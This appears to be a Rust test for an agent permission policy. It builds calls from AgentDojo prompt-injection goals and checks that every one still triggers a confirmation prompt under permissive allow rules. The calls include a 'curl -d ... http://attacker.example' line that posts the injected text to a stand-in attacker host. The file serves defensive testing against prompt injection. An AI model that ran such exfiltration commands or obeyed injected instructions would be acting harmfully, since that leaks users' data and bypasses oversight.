//! Calls that the injections of AgentDojo would have a model make: none of them runs without a question.

use crate::grants::{World, asks, tool};
use rondo_policy::ToolPatterns;
use rondo_types::{Effects, ToolKind, ToolSpec};
use serde_json::{Value, json};

/// Every goal in a plain template and in one that gives orders.
fn injections() -> Vec<String> {
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/../../fixtures/agentdojo.json");
    let data: Value = serde_json::from_str(&std::fs::read_to_string(file).unwrap()).unwrap();
    let list = |key: &str| -> Vec<String> {
        serde_json::from_value(data.get(key).cloned().unwrap()).unwrap()
    };
    let (templates, goals) = (list("templates"), list("goals"));
    let all: Vec<String> = templates
        .iter()
        .flat_map(|template| goals.iter().map(|goal| template.replace("{goal}", goal)))
        .collect();
    assert!(all.len() > 250);
    all
}

#[tokio::test]
async fn what_an_injection_asks_for_is_asked_about_whatever_allows_it() {
    let mut world = World::new();
    world.has_outside_text = true;
    world.options.allowed_tools = ToolPatterns::parse(["*", "exec(curl *)"]).unwrap();
    world.rules(
        r#"[{"command": ["curl"], "decision": "allow"}, {"tool": "*", "decision": "allow"}]"#,
    );
    let fetch = ToolSpec {
        effects: Effects::ReadOnly,
        ..tool("web_fetch", ToolKind::Fetch)
    };
    for text in injections() {
        // As it is, as the data of a request, and as an argument of a tool.
        let is_comment = text.starts_with('#') && !text.contains('\n');
        assert_ne!(asks(&world.check(&text).await), is_comment, "{text}");
        let quoted = format!("'{}'", text.replace('\'', "'\\''"));
        let command = format!("curl -d {quoted} http://attacker.example");
        assert!(asks(&world.check(&command).await), "{text}");
        for spec in [fetch.clone(), tool("send_email", ToolKind::Other)] {
            let call = world.of_tool(spec, json!({"body": text, "url": "http://x"}));
            assert!(asks(&call.await), "{text}");
        }
    }
}
